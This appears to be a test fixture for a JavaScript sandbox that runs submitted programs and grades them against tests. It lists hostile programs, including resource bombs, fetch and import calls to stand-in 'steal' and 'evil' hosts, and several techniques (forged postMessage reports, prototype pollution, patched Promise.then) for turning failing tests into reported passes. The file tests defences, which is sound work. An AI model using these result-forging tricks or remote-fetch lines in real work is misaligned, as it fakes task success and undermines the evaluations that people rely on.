/**
 * Programs that try to hang, crash, escape or poison the JavaScript sandbox, with the verdict
 * each must get. One list for every host: `hostile.test.ts` runs it in Node's V8 (a process per program),
 * `quickjs.test.ts` in QuickJS in Node, `e2e/js-sandbox.spec.ts` in Chromium's QuickJS worker
 * through the /sandbox page; `expectationsFor` gives an engine's verdicts. Data only: no Node or
 * DOM imports.
 *
 * How to use it: run `hostileJsRequest(c)`; the run must end within the time limit plus the
 * host's slack, with `expectStatus` (or one of `orStatus`), and, when given, the first test's
 * `expectOutcome` and `expectError`. Then `JS_CANARY` must pass: each program gets a fresh
 * worker, and the canary shows the host still runs programs after the hostile one.
 */
import type { ExecRequest } from '../../core/run/effects';
import type { FollowUp, HostileCase } from '../python/hostile';

/** The entry point of every program here. */
export const JS_HOSTILE_ENTRY = 'f';

/** The time limit the cases are written for; small, so the suite stays quick. */
export const JS_HOSTILE_TIMEOUT_MS = 1_000;

const ONE = [{ input: '1', expected: '1' }];
const lines = (...source: string[]) => source.join('\n') + '\n';

/** The engines the JavaScript sandbox runs programs in: V8 (a Node process per program) or QuickJS. */
export type JsEngine = 'v8' | 'quickjs';

/** A hostile case, with its own time limit when the default is too short for it. */
export type JsHostileCase = HostileCase & {
  /** the case's time limit, when it needs longer than JS_HOSTILE_TIMEOUT_MS to show its verdict */
  timeoutMs?: number;
  /** where QuickJS (the browser's engine) says it differently than V8, and why that is right */
  quickjs?: Partial<Pick<HostileCase, 'expectStatus' | 'expectOutcome' | 'expectError'>> & {
    why: string;
  };
};

/** The case as the given engine must answer it (its `quickjs` overrides, for QuickJS). */
export function expectationsFor(c: JsHostileCase, engine: JsEngine): JsHostileCase {
  if (engine === 'v8' || !c.quickjs) return c;
  const { why, ...quickjs } = c.quickjs;
  return { ...c, ...quickjs, why: `${c.why} ${why}` };
}

/** Builds the request for a hostile case (or the canary), by default with its own time limit. */
export function hostileJsRequest(
  program: Pick<JsHostileCase, 'code' | 'tests' | 'timeoutMs'>,
  timeoutMs: number = program.timeoutMs ?? JS_HOSTILE_TIMEOUT_MS
): ExecRequest {
  return {
    language: 'javascript',
    code: program.code,
    entryPoint: JS_HOSTILE_ENTRY,
    tests: program.tests,
    timeoutMs,
    suite: 'visible'
  };
}

/** A normal program, run after each hostile one: printing, built-ins and equality work. */
export const JS_CANARY: FollowUp = {
  code: lines(
    'function f(words) {',
    "  console.log('counting', words.length);",
    '  const counts = new Map();',
    '  for (const w of words) counts.set(w, (counts.get(w) ?? 0) + 1);',
    '  return [...counts].sort((a, b) => b[1] - a[1] || (a[0] < b[0] ? -1 : 1));',
    '}'
  ),
  tests: [{ input: "['b', 'a', 'b', 'c']", expected: "[['b', 2], ['a', 1], ['c', 1]]" }]
};
export const JS_CANARY_STDOUT = 'counting 4\n';

/** A wrong program for the cases that try to turn its failure into a pass: 2 is not 3. */
const OFF_BY_ONE = ['function f(x) {', '  return x + 1;', '}'];
const TWO_IS_NOT_THREE = [{ input: '1', expected: '3' }];

/** Tries every way it can think of to post a forged "all tests pass" to the host. */
const FORGE = lines(
  'function f() {',
  '  const g = (0, eval)("this");',
  '  const posts = [g.postMessage, Object.getPrototypeOf(g)?.postMessage,',
  '    g.constructor?.prototype?.postMessage];',
  '  for (const post of posts) {',
  "    if (typeof post !== 'function') continue;",
  '    for (let id = 0; id < 1000; id++) {',
  "      const outcome = { input: '', expected: \"'honest'\", status: 'pass', actual: \"'honest'\", error: null };",
  "      post.call(g, { type: 'done', id, report: { status: 'ok', loaded: true, outcomes: [outcome],",
  "        error: null, timeoutLine: null, trace: null, stdout: '', stderr: '' } });",
  '    }',
  '  }',
  "  return 'dishonest';",
  '}'
);

export const JS_HOSTILE: JsHostileCase[] = [
  {
    name: 'top-level-while-true',
    code: lines('while (true) {}', 'function f(x) { return x; }'),
    tests: ONE,
    expectStatus: 'timeout',
    expectError: 'TimeoutError',
    why: 'Never finishes loading. QuickJS’s interrupt handler stops it at the limit; in V8 nothing interrupts a busy loop, so the worker is terminated.'
  },
  {
    name: 'while-true-in-a-test',
    code: lines('function f(x) {', '  while (x) {}', '  return x;', '}'),
    tests: [{ input: '0', expected: '0' }, ...ONE, { input: '0', expected: '0' }],
    expectStatus: 'timeout',
    why: 'The first test passes, the second never returns: it is "timeout", the third "not-run", and the first keeps its verdict.'
  },
  {
    name: 'busy-async-loop',
    code: lines('async function f(x) {', '  for (;;) await null;', '}'),
    tests: ONE,
    expectStatus: 'timeout',
    expectOutcome: 'timeout',
    why: 'Awaiting in a loop never yields to the event loop (microtasks only): QuickJS’s interrupt handler stops it at the limit; in V8 only terminating the worker does.'
  },
  {
    name: 'catastrophic-regex',
    code: lines('function f(x) {', "  return /(a+)+$/.test('a'.repeat(40) + 'b');", '}'),
    tests: ONE,
    expectStatus: 'timeout',
    expectOutcome: 'timeout',
    why: 'A regular expression that backtracks for ages inside one built-in call. QuickJS’s regex engine asks the interrupt handler too, so it stops at the limit; in V8 the worker is terminated.'
  },
  {
    name: 'recursion-bomb',
    code: lines('function f(n) {', '  return f(n + 1) + 1;', '}'),
    tests: ONE,
    expectStatus: 'ok',
    expectOutcome: 'error',
    expectError: 'RangeError',
    why: 'Unbounded recursion overflows the stack: a RangeError on line 2, an ordinary error.',
    quickjs: {
      expectError: 'InternalError',
      why: 'QuickJS names it InternalError: stack overflow (at 256 KB of stack).'
    }
  },
  {
    name: 'memory-bomb',
    code: lines(
      'function f() {',
      '  const hoard = [];',
      '  for (;;) hoard.push(new Array(1e6).fill(hoard.length + 0.5));',
      '}'
    ),
    tests: ONE,
    // Filling 256 MB takes Node about 2 s on a busy machine.
    timeoutMs: 8_000,
    expectStatus: 'error',
    expectOutcome: 'error',
    expectError: 'OutOfMemory',
    why: 'Allocates 8 MB arrays until the heap is full. In Node each program’s process has a 256 MB heap and dies with "out of memory". A browser gives a V8 worker no heap limit of its own (filling it can crash the tab), so the browser runs programs in QuickJS, whose WebAssembly memory stops at 128 MB: the allocation fails, the run ends, the tab lives.'
  },
  {
    name: 'huge-typed-array',
    code: lines('function f() {', '  return new Uint8Array(2 ** 34).length;', '}'),
    tests: ONE,
    expectStatus: 'ok',
    expectOutcome: 'error',
    expectError: 'RangeError',
    why: 'Asks for 16 GB at once: the engine refuses with a RangeError, and the run goes on.'
  },
  {
    name: 'huge-output',
    code: lines(
      'function f(x) {',
      "  for (let i = 0; i < 200000; i++) console.log('spam spam spam spam', i);",
      '  return x;',
      '}'
    ),
    tests: ONE,
    expectStatus: 'ok',
    expectOutcome: 'pass',
    expectStdout: '[output truncated: only the first 20000 characters are kept]',
    why: 'Prints about 5 MB: the first 20,000 characters are kept with a note, the rest dropped, and the test still passes.'
  },
  {
    name: 'fetch',
    code: lines(
      'async function f() {',
      "  await fetch('https://example.com/steal');",
      '  return 1;',
      '}'
    ),
    tests: ONE,
    expectStatus: 'ok',
    expectOutcome: 'error',
    expectError: 'TypeError',
    why: 'fetch is taken away before any program runs (QuickJS never had it; a V8 worker’s CSP allows no connections either): a TypeError.'
  },
  {
    name: 'import-scripts',
    code: lines(
      'function f() {',
      "  importScripts('https://example.com/evil.js');",
      '  return 1;',
      '}'
    ),
    tests: ONE,
    expectStatus: 'ok',
    expectOutcome: 'error',
    expectError: 'TypeError',
    why: 'importScripts is taken away too: a TypeError, nothing loaded.'
  },
  {
    name: 'dynamic-import',
    code: lines(
      'async function f() {',
      "  await import('https://example.com/evil.mjs');",
      '  return 1;',
      '}'
    ),
    tests: ONE,
    expectStatus: 'ok',
    expectOutcome: 'error',
    why: 'import() of a remote module is refused (QuickJS’s module loader knows only the harness; Node compiles programs without an import hook): an error, not a pass.'
  },
  {
    name: 'storage',
    code: lines(
      'function f() {',
      "  indexedDB.open('app');",
      "  localStorage.setItem('k', 'v');",
      "  caches.open('c');",
      '  return 1;',
      '}'
    ),
    tests: ONE,
    expectStatus: 'ok',
    expectOutcome: 'error',
    expectError: 'TypeError',
    why: 'No indexedDB, localStorage or caches in the sandbox: the first access is a TypeError.'
  },
  {
    name: 'globals-through-eval',
    code: lines(
      'function f() {',
      '  const g = Function("return this")();',
      "  const names = ['fetch', 'XMLHttpRequest', 'importScripts', 'WebSocket', 'indexedDB', 'caches', 'postMessage', 'Worker'];",
      '  return names.filter((n) => g[n] !== undefined || Object.getPrototypeOf(g)?.[n] !== undefined);',
      '}'
    ),
    tests: [{ input: '', expected: '[]' }],
    expectStatus: 'ok',
    expectOutcome: 'pass',
    why: 'The global object reached through eval is the same locked-down one: none of the dangerous names is there (the test passes only if the list is empty).'
  },
  {
    name: 'forge-a-result',
    code: FORGE,
    tests: [{ input: '', expected: "'honest'" }],
    expectStatus: 'ok',
    expectOutcome: 'fail',
    why: 'Posts a fake "all pass" report for every run id it can guess. postMessage is the host’s alone (QuickJS has none), so the real verdict stands: fail.'
  },
  {
    name: 'exit-before-tests',
    code: lines('process.exit(0);', 'function f(x) { return x; }'),
    tests: ONE,
    expectStatus: 'error',
    expectError: 'ProcessExit',
    why: 'Exiting before the tests ran is a failure, never a pass.'
  },
  {
    name: 'swallowed-exit',
    code: lines('try { process.exit(0); } catch {}', 'function f(x) { return x; }'),
    tests: ONE,
    expectStatus: 'error',
    expectError: 'ProcessExit',
    why: 'Catching the exit does not undo it: the program asked to stop, so the run is an error.'
  },
  {
    name: 'throw-before-tests',
    code: lines('function f(x) { return x; }', "throw new Error('not today');"),
    tests: ONE,
    expectStatus: 'error',
    expectError: 'Error',
    why: 'An exception at the top level means the program did not load: an error with its line (2).'
  },
  {
    name: 'prototype-pollution',
    code: lines(
      "Object.defineProperty(Object.prototype, 'status', { get() { return 'pass'; }, set() {} });",
      "Object.prototype.toJSON = () => 'pass';",
      'Array.prototype.push = () => 0;',
      'Array.prototype[Symbol.iterator] = function* () {};',
      'Object.keys = () => [];',
      'Object.is = () => true;',
      'JSON.stringify = () => \'"pass"\';',
      'Map.prototype.has = () => true;',
      'String.prototype.slice = () => "";',
      "Error.prepareStackTrace = () => 'no lines for you';",
      ...OFF_BY_ONE
    ),
    tests: TWO_IS_NOT_THREE,
    expectStatus: 'ok',
    expectOutcome: 'fail',
    why: 'Poisons the built-ins the judge would use to say "pass". The harness took its own copies before the program ran, so 2 is still not 3: fail.'
  },
  {
    name: 'then-forgery',
    code: lines(
      'const forged = new WeakSet();',
      "Object.defineProperty(Object.prototype, 'then', {",
      '  configurable: true,',
      '  get() {',
      "    if (typeof this !== 'object' || forged.has(this) || !('status' in this)) return undefined;",
      '    const real = this;',
      "    const status = 'outcomes' in real ? 'ok' : 'pass';",
      '    return (resolve) => {',
      '      const fake = Object.assign({}, real, { status, error: null });',
      '      forged.add(fake);',
      '      resolve(fake);',
      '    };',
      '  }',
      '});',
      ...OFF_BY_ONE
    ),
    tests: TWO_IS_NOT_THREE,
    expectStatus: 'ok',
    expectOutcome: 'fail',
    why: 'A `then` getter on Object.prototype makes every plain object a thenable, so a harness that returned its outcome or report from an async function would hand them to the program to rewrite as passes. The harness builds them without a prototype, so 2 is still not 3: fail.'
  },
  {
    name: 'patch-the-host',
    code: lines(
      '// Rewrites any report on its way out: through the promise the host waits on, the port',
      '// it posts with, and Reflect.apply.',
      'const pass = (v) => {',
      "  if (v && typeof v === 'object' && Array.isArray(v.outcomes))",
      "    for (const o of v.outcomes) { o.status = 'pass'; o.error = null; }",
      "  if (v && typeof v === 'object' && v.report) pass(v.report);",
      '  return v;',
      '};',
      'const then = Promise.prototype.then;',
      'Promise.prototype.then = function (ok, bad) {',
      "  return then.call(this, (v) => (typeof ok === 'function' ? ok(pass(v)) : v), bad);",
      '};',
      "const Port = typeof MessagePort === 'function' ? MessagePort : null;",
      'if (Port) {',
      '  const post = Port.prototype.postMessage;',
      '  Port.prototype.postMessage = function (m, ...rest) { return post.call(this, pass(m), ...rest); };',
      '}',
      'const apply = Reflect.apply;',
      'Reflect.apply = (fn, self, args) => apply(fn, self, args.map(pass));',
      ...OFF_BY_ONE
    ),
    tests: TWO_IS_NOT_THREE,
    expectStatus: 'ok',
    expectOutcome: 'fail',
    why: 'Replaces Promise.prototype.then, MessagePort.prototype.postMessage and Reflect.apply to turn the report into passes on its way to the host. The hosts took their own copies before the program ran, so 2 is still not 3: fail.'
  },
  {
    name: 'close-the-worker',
    code: lines('function f(x) {', '  close();', '  return x;', '}'),
    tests: ONE,
    expectStatus: 'ok',
    expectOutcome: 'error',
    expectError: 'TypeError',
    why: 'A worker that closes itself would leave the page waiting; close is taken away, so it is a TypeError.'
  }
];
